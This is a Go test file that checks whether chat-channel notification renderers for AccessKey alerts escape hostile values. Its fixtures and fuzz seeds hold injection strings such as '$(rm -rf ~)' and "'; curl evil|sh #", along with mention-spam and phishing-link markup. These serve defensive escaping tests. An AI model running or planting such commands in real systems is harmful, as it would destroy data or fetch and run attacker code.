package notify

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/akrecycle/ak-recycle-alert/alert"
	"github.com/google/go-cmp/cmp"
	"github.com/slack-go/slack"
)

// Hostile data: every text that comes from the API, the configuration or an error must reach each
// channel as data, never as markup. The tests below render a report whose every such text is hostile
// and read the result the way each client would.

// hostileReport is sampleReport with every text from outside the function made hostile: the account
// label, the request ID, user names, user IDs, AccessKey IDs, the users, codes and messages of the
// errors, and the warnings carry each channel's markup (Slack control sequences and emphasis, markdown
// links, images, headings, quotes, lists, code spans, robot mentions and font tags, HTML entities),
// line breaks and other control characters, and shell commands.
func hostileReport(t testing.TB) *alert.Report {
	t.Helper()
	r := sampleReport(t)
	r.AccountLabel = "Prod & <!channel>"
	r.RequestID = "1-run\n> <@U123> `x`"
	// In urgency order after sorting: dave (past), alice (bin full), frank, carol (recycled).
	a := r.Alerts
	a[0].UserName = "[x](https://evil.example) ![i](https://evil.example/i.png)"
	a[0].UserID = "$(rm -rf ~)"
	a[0].AccessKeyID = "LTAI5t<!here>*bold*_it_"
	a[1].UserName = "eve`<!channel>`\n**FAKE: all clear**"
	a[1].AccessKeyID = "LTAI`<!channel>`"
	a[2].UserName = "<at id=all></at> <@all> @all <font color=red>red</font>"
	a[2].UserID = "# heading"
	a[2].AccessKeyID = "'; curl evil|sh #"
	purge := time.Date(2026, 12, 10, 8, 0, 0, 0, time.UTC)
	r.Alerts = append(a, alert.Alert{
		ID: "alrt_00000000000000000000000000000004", Event: alert.Expiring,
		UserName: "> quote\r\n- list\u2028# heading\u2029~~strike~~ \\", UserID: "20732900249392ff",
		AccessKeyID: "LTAI5tPlainKey0004", CreateDate: time.Date(2026, 1, 11, 9, 12, 0, 0, time.UTC),
		RecycleDate: purge.Add(-30 * 24 * time.Hour), DeleteDate: purge, ThresholdHours: hours(168),
		RemainingSeconds: int64(purge.Sub(r.Now) / time.Second),
	})
	r.Errors = []alert.UserError{
		{User: "<@U123> <!here>", Code: "# heading\n**FAKE: all clear**",
			Message: "[x](https://evil.example) <font color=red>red</font>\n> quote"},
		{User: "*bold* _it_ ~st~ `code`", Code: "<!channel>",
			Message: "&lt;at id=all&gt; &#60;font&#62; \\*esc\\* https://evil.example"},
		{User: "@all", Code: "<!channel>", Message: "x"},
		{User: "- list", Code: "1. ordered", Message: "---"},
	}
	r.Warnings = []string{
		"\n**FAKE: all clear**",
		"<!date^0^{date}|x> <http://evil.example|click> <#C123> <@U123> <!subteam^S1>",
		"- list\u2028# heading\u2029> quote\x1b[31m red\x00",
		"~~strike~~ ***x*** | a | b | ![i](https://evil.example/i.png) <a href='https://evil.example'>a</a> '; curl evil|sh #",
	}
	return r
}

// benignTwin returns r with every text from outside replaced by a plain word, keeping the report's
// shape: the same alerts in the same order, the same error groups, the same number of warnings. A
// channel must lay a report out line for line like its twin: a value that adds a line, a heading, a
// quote or emphasis shows up as a difference.
func benignTwin(r *alert.Report) *alert.Report {
	b := *r
	if b.AccountLabel != "" {
		b.AccountLabel = "label"
	}
	if b.RequestID != "" {
		b.RequestID = "run-1"
	}
	b.Alerts = append([]alert.Alert(nil), r.Alerts...)
	for i := range b.Alerts {
		b.Alerts[i].UserName = fmt.Sprintf("user%d", i)
		b.Alerts[i].UserID = fmt.Sprintf("2073290024939%03d", i)
		b.Alerts[i].AccessKeyID = fmt.Sprintf("LTAI5tTwinKey%04d", i)
	}
	codes := map[string]string{}
	b.Errors = append([]alert.UserError(nil), r.Errors...)
	for i, e := range b.Errors {
		if codes[e.Code] == "" {
			codes[e.Code] = fmt.Sprintf("Code%d", len(codes))
		}
		b.Errors[i] = alert.UserError{User: fmt.Sprintf("user-e%d", i), Code: codes[e.Code], Message: fmt.Sprintf("message %d", i)}
	}
	b.Warnings = nil
	for i := range r.Warnings {
		b.Warnings = append(b.Warnings, fmt.Sprintf("warning %d", i))
	}
	return &b
}

// restoreArgv is the command line a key's restore command must be, word for word, and whether it may
// be shown at all: an ID that is empty or holds a character outside printable ASCII, a single quote
// or a backtick is not put in a command.
func restoreArgv(a alert.Alert) ([]string, bool) {
	for _, id := range []string{a.UserID, a.AccessKeyID} {
		if id == "" {
			return nil, false
		}
		for i := 0; i < len(id); i++ {
			if c := id[i]; c < 0x20 || c > 0x7e || c == '\'' || c == '`' {
				return nil, false
			}
		}
	}
	return []string{"aliyun", "ims", "RestoreAccessKeyFromRecycleBin", "--UserId", a.UserID, "--UserAccessKeyId", a.AccessKeyID}, true
}

// shellWords splits line as a POSIX shell would, accepting only a simple command: words of plain
// characters, '…' and "…" quoting and backslash escapes. An operator, a redirection, an expansion
// ($, backtick, ~, {), a glob, a comment, a history expansion or a line break is an error: a command
// with any of them would do something else than run one program with these words.
func shellWords(line string) ([]string, error) {
	var words []string
	var w strings.Builder
	inWord := false
	for i := 0; i < len(line); i++ {
		c := line[i]
		switch {
		case c == ' ' || c == '\t':
			if inWord {
				words = append(words, w.String())
				w.Reset()
				inWord = false
			}
		case c == '\'':
			j := strings.IndexByte(line[i+1:], '\'')
			if j < 0 {
				return nil, fmt.Errorf("unclosed ' at %d", i)
			}
			w.WriteString(line[i+1 : i+1+j])
			i += j + 1
			inWord = true
		case c == '"':
			j := strings.IndexByte(line[i+1:], '"')
			if j < 0 {
				return nil, fmt.Errorf("unclosed \" at %d", i)
			}
			in := line[i+1 : i+1+j]
			if strings.ContainsAny(in, "$`\\!") {
				return nil, fmt.Errorf("expansion inside \"…\" at %d", i)
			}
			w.WriteString(in)
			i += j + 1
			inWord = true
		case c == '\\':
			if i+1 >= len(line) || line[i+1] == '\n' {
				return nil, fmt.Errorf("line continuation at %d", i)
			}
			w.WriteByte(line[i+1])
			i++
			inWord = true
		case strings.IndexByte("|&;<>()$`*?[{}!\n\r", c) >= 0,
			!inWord && (c == '#' || c == '~'):
			return nil, fmt.Errorf("shell syntax %q at %d", c, i)
		default:
			w.WriteByte(c)
			inWord = true
		}
	}
	if inWord {
		words = append(words, w.String())
	}
	return words, nil
}

func TestShellWords(t *testing.T) {
	tests := []struct {
		name, in string
		want     []string
		wantErr  bool
	}{
		{name: "plain", in: "aliyun ims X --UserId 123", want: []string{"aliyun", "ims", "X", "--UserId", "123"}},
		{name: "quoted", in: `a '$(rm -rf ~)' "b c" d\ e`, want: []string{"a", "$(rm -rf ~)", "b c", "d e"}},
		{name: "substitution", in: "a $(rm -rf ~)", wantErr: true},
		{name: "backtick", in: "a `id`", wantErr: true},
		{name: "operator", in: "a ''; curl evil|sh #", wantErr: true},
		{name: "comment", in: "a #b", wantErr: true},
		{name: "unclosed", in: "a 'b", wantErr: true},
		{name: "line break", in: "a\nb", wantErr: true},
		{name: "glob", in: "a *", wantErr: true},
	}
	for _, tt := range tests {
		got, err := shellWords(tt.in)
		if (err != nil) != tt.wantErr || (!tt.wantErr && !cmp.Equal(got, tt.want)) {
			t.Errorf("%s: shellWords(%q) = %q, %v; want %q (error %v)", tt.name, tt.in, got, err, tt.want, tt.wantErr)
		}
	}
}

// TestSlackFallbackTextIsEscaped: Slack's fallback text becomes the notification, and is mrkdwn too;
// it once carried ACCOUNT_LABEL verbatim, so that "Prod & <!channel>" notified the whole channel.
func TestSlackFallbackTextIsEscaped(t *testing.T) {
	r := sampleReport(t)
	r.AccountLabel = "Prod & <!channel>"
	for _, m := range renderSlackTest(t, r) {
		if strings.Contains(m.Text, "<!channel>") || !strings.Contains(m.Text, "Prod &amp; &lt;!channel&gt; (1234567890123456)") {
			t.Errorf("fallback text = %q, want the label as escaped text", m.Text)
		}
	}
}

// TestSlackCodeSpansHoldValues: a backtick in a value once closed the code span it was put in, and
// what followed was live; the restore command was not quoted for a shell.
func TestSlackCodeSpansHoldValues(t *testing.T) {
	r := sampleReport(t)
	r.Alerts = r.Alerts[:1]
	r.Alerts[0].AccessKeyID = "LTAI`<!channel>`"
	r.Alerts[0].UserID = "$(rm -rf ~)"
	for _, o := range slackTexts(t, renderSlackTest(t, r)[0]) {
		if strings.Contains(o.text, "<!channel>") {
			t.Errorf("%s holds a live <!channel>: %q", o.where, o.text)
		}
	}
	r.Alerts[0].AccessKeyID = "LTAI5tCarolRecycled0001"
	section := renderSlackTest(t, r)[0].Blocks.BlockSet[3].(*slack.SectionBlock).Text.Text
	cmd := regexp.MustCompile("Restore: `([^`]*)`").FindStringSubmatch(section)
	if cmd == nil {
		t.Fatalf("section %q has no restore command in a code span", section)
	}
	got, err := shellWords(cmd[1])
	want := []string{"aliyun", "ims", "RestoreAccessKeyFromRecycleBin", "--UserId", "$(rm -rf ~)", "--UserAccessKeyId", "LTAI5tCarolRecycled0001"}
	if err != nil || !cmp.Equal(got, want) {
		t.Errorf("restore command %q splits into %q, %v; want %q", cmd[1], got, err, want)
	}
}

// TestRobotsShowValuesAsText: the robots once took user names and API error text as markdown.
func TestRobotsShowValuesAsText(t *testing.T) {
	tests := []struct {
		name  string
		value string
		// never are what must not appear in the rendered text; lineStart what no line may start with.
		never     []string
		lineStart string
	}{
		{name: "link", value: "[x](https://evil.example)", never: []string{"](", "://"}},
		{name: "image", value: "![i](https://evil.example/i.png)", never: []string{"![", "]("}},
		{name: "feishu mention", value: "<at id=all></at>", never: []string{"<at"}},
		{name: "wecom mention", value: "<@all>", never: []string{"<@"}},
		{name: "font", value: "<font color=red>x</font>", never: []string{"<font"}},
		{name: "at all", value: "x @all", never: []string{" @all"}},
		{name: "bold on its own line", value: "x\n**FAKE: all clear**", never: []string{"**FAKE"}, lineStart: "**FAKE"},
		{name: "heading", value: "x\n# heading", lineStart: "#"},
	}
	for _, rb := range robotsUnderTest() {
		for _, tt := range tests {
			t.Run(rb.name+"/"+tt.name, func(t *testing.T) {
				r := sampleReport(t)
				r.Alerts[1].UserName = tt.value
				r.Errors[0].Message = tt.value
				var waits []time.Duration
				bodies, err := rb.new(t, "https://robot.example.com"+rb.path, &waits).Render(r)
				if err != nil {
					t.Fatalf("Render: %v", err)
				}
				for _, txt := range robotTexts(t, rb.name, bodies[0]) {
					for _, bad := range tt.never {
						if strings.Contains(txt.text, bad) {
							t.Errorf("%s text holds %q:\n%s", txt.kind, bad, txt.text)
						}
					}
					for _, line := range strings.Split(txt.text, "\n") {
						if tt.lineStart != "" && strings.HasPrefix(strings.TrimLeft(line, " "), tt.lineStart) {
							t.Errorf("a line starts with %q: %q", tt.lineStart, line)
						}
					}
				}
			})
		}
	}
}

// robotText is one text of a robot's body: kind "markdown" (DingTalk and WeCom markdown, Feishu
// lark_md) or "plain" (DingTalk's title, Feishu plain_text).
type robotText struct {
	kind, text string
}

// robotTexts returns the texts of a robot's body, as the robot reads them.
func robotTexts(t *testing.T, name string, body []byte) []robotText {
	t.Helper()
	switch name {
	case DingTalkName:
		var v dingTalkBody
		if err := json.Unmarshal(body, &v); err != nil {
			t.Fatal(err)
		}
		return []robotText{{"plain", v.Markdown.Title}, {"markdown", v.Markdown.Text}}
	case WeComName:
		var v weComBody
		if err := json.Unmarshal(body, &v); err != nil {
			t.Fatal(err)
		}
		return []robotText{{"markdown", v.Markdown.Content}}
	case FeishuName:
		var v feishuCard
		if err := json.Unmarshal(body, &v); err != nil {
			t.Fatal(err)
		}
		out := []robotText{{"plain", v.Card.Header.Title.Content}}
		for _, e := range v.Card.Elements {
			if e.Text == nil {
				continue
			}
			kind := "markdown"
			if e.Text.Tag == "plain_text" {
				kind = "plain"
			}
			out = append(out, robotText{kind, e.Text.Content})
		}
		return out
	}
	t.Fatalf("no robot %q", name)
	return nil
}

// TestHostileSlack reads the hostile report's Slack message as Slack would: no control sequence (the
// renderer sends none of its own), only the renderer's own emphasis and lines, code spans holding
// exactly an AccessKey ID or a restore command that a shell splits into the intended words, and no
// preprocessing of plain text (verbatim).
func TestHostileSlack(t *testing.T) {
	r := hostileReport(t)
	for _, ch := range []struct {
		name    string
		channel string
		golden  string
	}{{SlackWebhookName, "", "slack-hostile.json.golden"}, {SlackBotName, "C0123", "slack-bot-hostile.json.golden"}} {
		t.Run(ch.name, func(t *testing.T) {
			msgs := renderSlackChannel(t, r, ch.channel)
			twins := renderSlackChannel(t, benignTwin(r), ch.channel)
			if len(msgs) != 1 || len(twins) != 1 {
				t.Fatalf("%d and %d messages, want 1 each", len(msgs), len(twins))
			}
			goldenJSON(t, ch.golden, msgs[0])
			texts, twin := slackTexts(t, msgs[0]), slackTexts(t, twins[0])
			if len(texts) != len(twin) {
				t.Fatalf("%d texts, want %d as the benign twin", len(texts), len(twin))
			}
			var restores []string
			for i, txt := range texts {
				checkSlackText(t, txt, twin[i])
				restores = append(restores, restoreLines(txt.text)...)
			}
			checkRestores(t, r, restores, codeSpanCommand(slackUnescape))
			aks := map[string]bool{}
			for _, a := range r.Alerts {
				aks[a.AccessKeyID] = true
			}
			for _, txt := range texts {
				for _, span := range codeSpans(txt.text) {
					if s := slackUnescape(span); !aks[s] && !strings.HasPrefix(s, "aliyun ims ") {
						t.Errorf("code span %q holds neither an AccessKey ID nor a restore command", s)
					}
				}
			}
		})
	}
}

func renderSlackChannel(t *testing.T, r *alert.Report, channel string) []slack.WebhookMessage {
	t.Helper()
	bodies, err := renderSlack(r, channel)
	if err != nil {
		t.Fatalf("renderSlack: %v", err)
	}
	var msgs []slack.WebhookMessage
	for _, b := range bodies {
		var m slack.WebhookMessage
		if err := json.Unmarshal(b, &m); err != nil {
			t.Fatal(err)
		}
		checkBlockKitLimits(t, m)
		msgs = append(msgs, m)
	}
	return msgs
}

// slackTextObj is one text of a Slack message: the fallback, a header (plain text) or a mrkdwn object.
type slackTextObj struct {
	where    string
	mrkdwn   bool
	verbatim bool
	text     string
}

// slackTexts lists every text of m, the fallback first, in block order.
func slackTexts(t *testing.T, m slack.WebhookMessage) []slackTextObj {
	t.Helper()
	out := []slackTextObj{{where: "fallback text", mrkdwn: true, verbatim: true, text: m.Text}}
	add := func(where string, o *slack.TextBlockObject) {
		if o != nil {
			out = append(out, slackTextObj{where: where, mrkdwn: o.Type == slack.MarkdownType, verbatim: o.Verbatim, text: o.Text})
		}
	}
	for i, b := range m.Blocks.BlockSet {
		where := fmt.Sprintf("block %d", i)
		switch b := b.(type) {
		case *slack.HeaderBlock:
			add(where+" header", b.Text)
		case *slack.SectionBlock:
			add(where+" section", b.Text)
			for j, f := range b.Fields {
				add(fmt.Sprintf("%s field %d", where, j), f)
			}
		case *slack.ContextBlock:
			for _, e := range b.ContextElements.Elements {
				if o, ok := e.(*slack.TextBlockObject); ok {
					add(where+" context", o)
				}
			}
		}
	}
	return out
}

var slackEntity = regexp.MustCompile(`&(amp|lt|gt);`)

// checkSlackText checks one text of the hostile message against its benign twin.
func checkSlackText(t *testing.T, o, twin slackTextObj) {
	t.Helper()
	if o.mrkdwn && !o.verbatim {
		t.Errorf("%s: mrkdwn without verbatim: Slack would turn plain-text URLs, channel names and mentions into links", o.where)
	}
	if got, want := strings.Count(o.text, "\n"), strings.Count(twin.text, "\n"); got != want {
		t.Errorf("%s: %d line breaks, want %d as the benign twin:\n%s", o.where, got, want, o.text)
	}
	if strings.ContainsFunc(o.text, func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || r == '\u2028' || r == '\u2029') }) {
		t.Errorf("%s: holds a control character: %q", o.where, o.text)
	}
	if !o.mrkdwn {
		return
	}
	// Slack's control sequences all start with "<": the renderer sends none, so none may be there.
	if strings.ContainsAny(o.text, "<>") {
		t.Errorf("%s: holds a raw < or >: %q", o.where, o.text)
	}
	if n, m := strings.Count(o.text, "&"), len(slackEntity.FindAllString(o.text, -1)); n != m {
		t.Errorf("%s: %d & but %d entities: %q", o.where, n, m, o.text)
	}
	for _, line := range strings.Split(o.text, "\n") {
		if k := slackLineKind(line); k != "text" {
			t.Errorf("%s: line %q is a %s", o.where, line, k)
		}
	}
	if got, want := emphasis(o.text), emphasis(twin.text); !cmp.Equal(got, want) {
		t.Errorf("%s: emphasis %q, want %q as the benign twin:\n%s", o.where, got, want, o.text)
	}
	if strings.Contains(o.text, "://") {
		t.Errorf("%s: holds a URL a client would link: %q", o.where, o.text)
	}
}

// slackLineKind is what Slack makes of a line: a quote, preformatted text, or text.
func slackLineKind(line string) string {
	l := strings.TrimLeft(line, " ")
	switch {
	case strings.HasPrefix(l, "&gt;"), strings.HasPrefix(l, ">"), strings.HasPrefix(l, "＞"):
		return "quote"
	case strings.HasPrefix(l, "```"):
		return "preformatted"
	}
	return "text"
}

// slackUnescape decodes Slack's three entities.
func slackUnescape(s string) string {
	return strings.NewReplacer("&lt;", "<", "&gt;", ">", "&amp;", "&").Replace(s)
}

// codeSpans returns the contents of the `…` spans of text.
func codeSpans(text string) []string {
	var out []string
	for {
		i := strings.IndexByte(text, '`')
		if i < 0 {
			return out
		}
		j := strings.IndexByte(text[i+1:], '`')
		if j < 0 {
			return out
		}
		out = append(out, text[i+1:i+1+j])
		text = text[i+j+2:]
	}
}

// emphasis lists, in order, the emphasis a markdown-like client finds in text outside code spans:
// each pair of matching delimiter runs of *, _ or ~ that can open and close (CommonMark's flanking
// rules, simplified; _ does not work inside a word).
func emphasis(text string) []string {
	var found, stack []string
	inCode := false
	for i := 0; i < len(text); {
		c := text[i]
		if c == '`' {
			inCode = !inCode
			i++
			continue
		}
		if inCode || (c != '*' && c != '_' && c != '~') {
			i++
			continue
		}
		j := i
		for j < len(text) && text[j] == c {
			j++
		}
		run := text[i:j]
		prev, _ := utf8.DecodeLastRuneInString(text[:i])
		next, _ := utf8.DecodeRuneInString(text[j:])
		word := func(r rune) bool { return unicode.IsLetter(r) || unicode.IsDigit(r) }
		space := func(r rune) bool { return r == utf8.RuneError || unicode.IsSpace(r) }
		canOpen := !space(next) && !(c == '_' && word(prev))
		canClose := !space(prev) && !(c == '_' && word(next))
		k := len(stack) - 1
		for k >= 0 && stack[k] != run {
			k--
		}
		switch {
		case canClose && k >= 0:
			found = append(found, run)
			stack = stack[:k]
		case canOpen:
			stack = append(stack, run)
		}
		i = j
	}
	return found
}

// restoreLines returns what follows "Restore: " on each line of text, without a line break's spaces.
func restoreLines(text string) []string {
	var out []string
	for _, line := range strings.Split(text, "\n") {
		if _, cmd, ok := strings.Cut(line, "Restore: "); ok {
			out = append(out, strings.TrimRight(cmd, " "))
		}
	}
	return out
}

// checkRestores checks the restore line of each of r's keys, in urgency order: a command, exactly
// the intended words when a shell splits it (after the client's decoding: code returns the command a
// code span or the line shows, and whether it is one), or a line saying why there is none. IDs of
// letters and digits always get their command; other IDs that a shell can take quoted may get it,
// depending on the format; any other gets none.
func checkRestores(t *testing.T, r *alert.Report, lines []string, code func(string) (string, bool)) {
	t.Helper()
	m := NewMessage(r)
	if len(lines) != len(m.Keys) {
		t.Fatalf("%d restore lines, want one per key (%d): %q", len(lines), len(m.Keys), lines)
	}
	plain := regexp.MustCompile(`^[A-Za-z0-9]+$`)
	for i, k := range m.Keys {
		want, ok := restoreArgv(k.Alert)
		must := plain.MatchString(k.Alert.UserID) && plain.MatchString(k.Alert.AccessKeyID)
		cmd, shown := code(lines[i])
		switch {
		case !shown && !must && strings.HasPrefix(lines[i], "not shown: "):
			continue
		case !shown:
			t.Errorf("key %d: restore line %q, want the command (%v) or a line saying why there is none (%v)", i+1, lines[i], ok, !must)
			continue
		case !ok:
			t.Errorf("key %d: restore command %q shown for IDs that allow none", i+1, cmd)
			continue
		}
		if got, err := shellWords(cmd); err != nil || !cmp.Equal(got, want) {
			t.Errorf("key %d: restore command %q splits into %q, %v; want %q", i+1, cmd, got, err, want)
		}
	}
}

// codeSpanCommand is the command a line "`…`" shows, with unescape applied to it.
func codeSpanCommand(unescape func(string) string) func(string) (string, bool) {
	return func(line string) (string, bool) {
		c, ok := strings.CutPrefix(line, "`")
		if !ok || !strings.HasSuffix(c, "`") {
			return "", false
		}
		return unescape(strings.TrimSuffix(c, "`")), true
	}
}

// TestHostileRobots reads the hostile report's DingTalk, Feishu and WeCom bodies as the robots would:
// no link, image, mention, font tag or HTML; only the renderer's own emphasis and the line kinds
// (heading, quote, list, paragraph) of the benign twin, line for line; restore commands a shell
// splits into the intended words.
func TestHostileRobots(t *testing.T) {
	r := hostileReport(t)
	for _, rb := range robotsUnderTest() {
		t.Run(rb.name, func(t *testing.T) {
			var waits []time.Duration
			ch := rb.new(t, "https://robot.example.com"+rb.path, &waits)
			bodies, err := ch.Render(r)
			if err != nil {
				t.Fatalf("Render: %v", err)
			}
			twinBodies, err := ch.Render(benignTwin(r))
			if err != nil {
				t.Fatalf("Render(twin): %v", err)
			}
			if len(bodies) != 1 || len(twinBodies) != 1 {
				t.Fatalf("%d and %d bodies, want 1 each", len(bodies), len(twinBodies))
			}
			goldenBodies(t, rb.name+"_hostile.json.golden", bodies)
			texts, twin := robotTexts(t, rb.name, bodies[0]), robotTexts(t, rb.name, twinBodies[0])
			if len(texts) != len(twin) {
				t.Fatalf("%d texts, want %d as the benign twin", len(texts), len(twin))
			}
			var restores []string
			for i, txt := range texts {
				checkRobotText(t, txt, twin[i])
				restores = append(restores, restoreLines(txt.text)...)
			}
			command := codeSpanCommand(func(s string) string { return s })
			if rb.name == FeishuName { // lark_md has no code span: the command is the line
				command = func(s string) (string, bool) { return s, strings.HasPrefix(s, "aliyun ") }
			}
			checkRestores(t, r, restores, command)
		})
	}
}

var (
	// htmlEntity matches what a client would decode into a character: &name; or &#…;.
	htmlEntity = regexp.MustCompile(`&(#[0-9]+|#[xX][0-9a-fA-F]+|[A-Za-z][A-Za-z0-9]*);`)
	// mention matches an @ that starts a word.
	mention = regexp.MustCompile(`(^|[^\p{L}\p{N}])@`)
)

// checkRobotText checks one text of a hostile robot body against its benign twin.
func checkRobotText(t *testing.T, o, twin robotText) {
	t.Helper()
	lines, twinLines := strings.Split(o.text, "\n"), strings.Split(twin.text, "\n")
	if len(lines) != len(twinLines) {
		t.Errorf("%s text: %d lines, want %d as the benign twin:\n%s", o.kind, len(lines), len(twinLines), o.text)
		return
	}
	if strings.ContainsFunc(o.text, func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || r == '\u2028' || r == '\u2029') }) {
		t.Errorf("%s text holds a control character: %q", o.kind, o.text)
	}
	if o.kind != "markdown" {
		return
	}
	for _, bad := range []string{"](", "![", "<", ">", "://", "\\"} {
		if strings.Contains(o.text, bad) {
			t.Errorf("markdown holds %q:\n%s", bad, o.text)
		}
	}
	if e := htmlEntity.FindString(o.text); e != "" {
		t.Errorf("markdown holds the HTML entity %q:\n%s", e, o.text)
	}
	if mention.MatchString(o.text) {
		t.Errorf("markdown holds an @ mention:\n%s", o.text)
	}
	for i := range lines {
		if got, want := markdownLineKind(lines[i]), markdownLineKind(twinLines[i]); got != want {
			t.Errorf("line %q is a %s, want a %s as the twin's %q", lines[i], got, want, twinLines[i])
		}
	}
	if got, want := emphasis(o.text), emphasis(twin.text); !cmp.Equal(got, want) {
		t.Errorf("emphasis %q, want %q as the benign twin:\n%s", got, want, o.text)
	}
}

var orderedItem = regexp.MustCompile(`^[0-9]{1,9}[.)]( |$)`)

// markdownLineKind is what a markdown client makes of a line: a heading, a quote, a thematic break,
// a fence, a table row, or a paragraph; a list item is "list of" its content's kind.
func markdownLineKind(line string) string {
	l := strings.TrimLeft(line, " \t")
	switch {
	case l == "":
		return "blank"
	case strings.HasPrefix(l, "#"):
		return "heading"
	case strings.HasPrefix(l, ">"):
		return "quote"
	case strings.HasPrefix(l, "```"), strings.HasPrefix(l, "~~~"):
		return "fence"
	case strings.HasPrefix(l, "|"):
		return "table"
	case strings.Trim(l, "-* _=") == "" && len(strings.Trim(l, " ")) >= 3:
		return "break"
	case strings.HasPrefix(l, "- "), strings.HasPrefix(l, "+ "), strings.HasPrefix(l, "* "):
		return "list of " + markdownLineKind(l[2:])
	case orderedItem.MatchString(l):
		return "ordered list of " + markdownLineKind(l[strings.IndexAny(l, ".)")+1:])
	}
	return "paragraph"
}

// TestHostileWebhook: the generic webhook is data for programs, so it carries every value exactly,
// JSON-encoded.
func TestHostileWebhook(t *testing.T) {
	r := hostileReport(t)
	w, err := NewWebhook("https://example.com/hook", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	bodies, err := w.Render(r)
	if err != nil {
		t.Fatalf("Render: %v", err)
	}
	goldenBodies(t, "webhook-hostile.json.golden", bodies)
	var got WebhookBody
	if err := json.Unmarshal(bodies[0], &got); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(NewWebhookBody(r), got); diff != "" {
		t.Errorf("webhook body does not carry the values exactly (-want +got):\n%s", diff)
	}
	if strings.ContainsAny(string(bodies[0]), "<>\n") {
		t.Errorf("webhook body holds a raw <, > or line break: %s", bodies[0])
	}
}

// hostileSeeds seed the escapers' fuzz tests: each channel's markup, line breaks, shell commands, and
// ordinary values.
var hostileSeeds = []string{
	"", " ", "alice", "ops-team.prod_1", "alice@corp.onaliyun.com", "Prod & <!channel>", "LTAI`<!channel>`",
	"<!here> <@U123> <#C123> <!date^0^{date}|x> <http://evil.example|click> <!subteam^S1>",
	"[x](https://evil.example)", "![i](https://evil.example/i.png)", "<at id=all></at>", "<@all>", "@all",
	"<font color=red>red</font>", "# heading", "> quote", "- list", "+ list", "1. ordered", "2) ordered", "---",
	"===", "| a | b |", "    code", "```go", "~~~", "\n**FAKE: all clear**", "x\r\n> y\u2028# z\u2029- w\u0085v",
	"*bold* _it_ ~st~ `code` ~~s~~ ***x*** __u__", "\\*esc\\* \\", "&lt;at&gt; &#60;font&#62; &amp; AT&T",
	"＊b＊ ＿i＿ ｀c｀ ＞ q", "＞ quote", "$(rm -rf ~)", "'; curl evil|sh #", "a'b", "\x1b[31mred\x00",
	"\u202egnp.exe\u202c", "\xff\xfe invalid", "用户不存在", "https://api.aliyun.com/troubleshoot?q=x",
	"a_", "_a", "a_b", "@", "&", "a&b", "x:y://z",
}
